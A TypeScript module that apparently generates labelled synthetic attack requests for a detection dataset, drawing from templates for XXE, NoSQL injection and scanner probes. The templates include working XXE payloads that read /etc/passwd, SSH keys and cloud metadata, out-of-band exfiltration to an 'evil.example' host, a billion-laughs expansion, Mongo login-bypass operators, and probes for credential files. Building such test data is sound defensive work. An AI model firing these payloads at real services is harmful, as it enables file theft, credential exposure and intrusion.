import { body, type LabelledAttack } from '../../attack.ts';
import type { Exchange } from '../../call-record.ts';
import type { ShapedFamily } from '../../half-corpus.ts';
import type { Random } from '../../random.ts';
import { indifferent } from '../attack-spots.ts';
import { drawn, fill } from '../slots.ts';

const API = 'api.meadow.example';

const ENTITIES = [
  '<!DOCTYPE ‹word› [<!ENTITY ‹word›x SYSTEM "file:///etc/passwd">]><‹word›><id>‹n›</id><name>&‹word›x;</name></‹word›>',
  '<!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY xxe SYSTEM "file:///c:/windows/win.ini" > ]><r><a>‹n›</a><b>&xxe;</b></r>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/latest/meta-data/iam/‹word›">]><a>&b;‹n›</a>',
  '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://‹hex›.evil.example/‹word›.dtd"> %p;]><a>‹n›</a>',
  '<!DOCTYPE a SYSTEM "http://‹hex›.evil.example/‹word›.dtd"><a>‹n›</a>',
  '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://‹hex›.evil.example/‹word›"><a>&send;</a>',
  '<!DOCTYPE d [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=‹word›.php">]><d>&e;</d>',
  '<!DOCTYPE d [<!ENTITY e SYSTEM "expect://id">]><d><x>‹n›</x>&e;</d>',
  '<!DOCTYPE d [<!ENTITY e SYSTEM "jar:http://‹hex›.evil.example/a.jar!/x">]><d>&e;</d>',
  '<!DOCTYPE d [<!ENTITY e SYSTEM "gopher://127.0.0.1:6379/_INFO‹hex›">]><d>&e;</d>',
  '<!DOCTYPE d [<!ENTITY e SYSTEM "netdoc:///etc/‹word›">]><d>&e;</d>',
  '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; ex SYSTEM \'http://‹hex›.evil.example/?x=%file;\'>">%eval;%ex;]><r/>',
  '<!DOCTYPE m [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd">\'>%local;]><m>‹n›</m>',
  '<!DOCTYPE lolz [<!ENTITY lol "lol‹hex›"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>',
  '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/><i>‹n›</i></a>',
  '<a><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://‹hex›.evil.example/x.xml"/></a>',
  '<!DOCTYPE\n  r\n  [\n  <!ENTITY\n  x\n  SYSTEM\n  "file:///proc/self/environ"\n  >\n]>\n<r>&x;‹n›</r>',
  '<!doctype r [<!ENTITY x SYSTEM \'file:///etc/shadow\'>]><r a="‹n›">&x;</r>',
  '<!-- ‹word› --><!DOCTYPE r [<!-- c --><!ENTITY x PUBLIC "‹hex›" "file:///etc/issue">]><r>&x;</r>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hosts">]><svg xmlns="http://www.w3.org/2000/svg" width="‹n›"><text>&x;</text></svg>',
  '<!DOCTYPE rss [<!ENTITY x SYSTEM "\\\\‹ip›\\‹word›">]><rss><channel><title>&x;</title></channel></rss>',
  '<!DOCTYPE r [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///root/.ssh/id_rsa\'>"> %a;]><r>&b;‹n›</r>',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "https://localhost:8443/‹word›">]><r>&x;</r>',
];

function xxe(r: Random): LabelledAttack {
  const text = `${r.pick(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n', ''])}${drawn(r, ENTITIES)}`;
  const ask = r.pick<() => Omit<Exchange, 'status'>>([
    () => xml(r, text),
    () => xml(r, text),
    () => xml(r, text),
    () => ({
      method: 'POST',
      host: API,
      path: '/v2/documents',
      ...body('application/json', JSON.stringify({ name: 'a.xml', content: text })),
    }),
    () => ({
      method: 'POST',
      host: API,
      path: '/v1/validate',
      ...body(
        'application/x-www-form-urlencoded',
        new URLSearchParams({ xml: text, n: r.hex(3) }).toString(),
      ),
    }),
    () => ({
      method: 'POST',
      host: API,
      path: '/saml/acs',
      ...body(
        'application/x-www-form-urlencoded',
        new URLSearchParams({ SAMLResponse: Buffer.from(text).toString('base64') }).toString(),
      ),
    }),
    () => ({
      method: 'POST',
      host: API,
      path: '/v1/avatars',
      ...body(
        'multipart/form-data; boundary=----q9',
        `------q9\r\nContent-Disposition: form-data; name="file"; filename="${r.hex(4)}.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${text}\r\n------q9--\r\n`,
      ),
    }),
  ])();
  const location = ask.query === undefined ? 'request.body' : 'request.query';
  return {
    family: 'xxe',
    accepted: ['xxe', 'ssrf', 'path-traversal'],
    technique: text.slice(0, 80),
    location,
    outcome: 'attempt',
    shown: text,
    exchange: { ...ask, ...indifferent(r) },
  };
}

const xml = (r: Random, text: string): Omit<Exchange, 'status'> => ({
  method: r.pick(['POST', 'PUT']),
  host: API,
  path: r.pick(['/import', '/soap', '/v1/orders', '/rpc']),
  ...body(
    r.pick([
      'application/xml',
      'text/xml',
      'application/soap+xml',
      'text/xml; charset=utf-8',
      'application/rss+xml',
    ]),
    text,
  ),
});

const MONGO = [
  '{"username":{"$ne":null},"password":{"$ne":"‹hex›"}}',
  '{"user":{"$gt":""},"pass":{"$regex":"^‹word›"}}',
  '{"email":"‹word›@mail.example","password":{"$nin":["‹hex›"]}}',
  '{"token":{"$exists":true},"n":"‹hex›"}',
  '{"login":"admin","password":{"$not":{"$eq":"‹hex›"}}}',
  '{"id":{"$where":"sleep(‹n›)"}}',
  '{"q":{"$where":"this.‹col› == this.‹word›"}}',
  '{"user":"‹word›","pin":{"$in":["1","2","‹n›"]}}',
];
const MONGO_QUERY = [
  'username[$ne]=‹word›&password[$ne]=‹hex›',
  'user=admin&pass[$regex]=^‹word›',
  'login[$gt]=&password[$gt]=‹d›',
  'token[$exists]=true&x=‹hex›',
  'username=admin&password[$nin][]=‹hex›',
  'q[$where]=sleep(‹n›)',
];

function mongo(r: Random): LabelledAttack {
  const asQuery = r.chance(0.4);
  const text = drawn(r, asQuery ? MONGO_QUERY : MONGO);
  const ask: Omit<Exchange, 'status'> = asQuery
    ? { method: 'GET', host: API, path: r.pick(['/v1/login', '/v1/members']), query: text }
    : {
        method: 'POST',
        host: API,
        path: r.pick(['/v1/login', '/v1/reset']),
        ...body('application/json', text),
      };
  return {
    family: 'nosql-injection',
    accepted: ['nosql-injection'],
    technique: text.slice(0, 40),
    location: asQuery ? 'request.query' : 'request.body',
    outcome: 'attempt',
    shown: text,
    exchange: { ...ask, ...indifferent(r) },
  };
}

const PROBES = [
  '/.git/config',
  '/.env',
  '/wp-login.php',
  '/wp-content/plugins/‹word›/readme.txt',
  '/phpmyadmin/',
  '/.aws/credentials',
  '/server-status',
  '/actuator/env',
  '/cgi-bin/‹word›.cgi',
  '/.svn/entries',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/.env.‹word›',
  '/xmlrpc.php',
  '/solr/admin/cores',
  '/manager/html',
  '/.ssh/id_ed25519',
  '/wp-config.php~',
  '/HNAP1/',
  '/GponForm/diag_Form',
  '/owa/auth/x.js',
];
const TOOLS = [
  'sqlmap/1.8.‹d›#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Test:00‹n›)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'gobuster/3.6',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Fuzz Faster U Fool v2.1.0',
  'masscan/1.3',
  'WPScan v3.8.‹n› (https://wpscan.com/)',
  'dirsearch/0.4',
  'Wfuzz/3.1.0',
  'feroxbuster/2.11.0',
  'zgrab/0.x',
];

function probe(r: Random): LabelledAttack {
  const byTool = r.chance(0.35);
  const path = byTool
    ? fill(r, '/‹word›')
    : `${r.pick(['', '', '/v1', '/‹word›'].map((front) => fill(r, front)))}${drawn(r, PROBES)}`;
  const agent = drawn(r, TOOLS);
  const requestHeaders = byTool ? { 'user-agent': agent } : {};
  const gone = { status: 404, responseBody: '{"message":"No such thing"}' };
  return {
    family: 'scanner',
    accepted: ['scanner'],
    technique: byTool ? 'tool' : 'path',
    location: byTool ? 'request.header' : 'request.path',
    outcome: 'attempt',
    shown: byTool ? `${agent} ${path}` : path,
    exchange: { method: 'GET', host: API, path, requestHeaders, ...gone },
  };
}

export const FIT_SHAPED: readonly ShapedFamily[] = [
  { family: 'xxe', attempts: 170, attack: xxe },
  { family: 'nosql-injection', attempts: 50, attack: mongo },
  { family: 'scanner', attempts: 45, attack: probe },
];
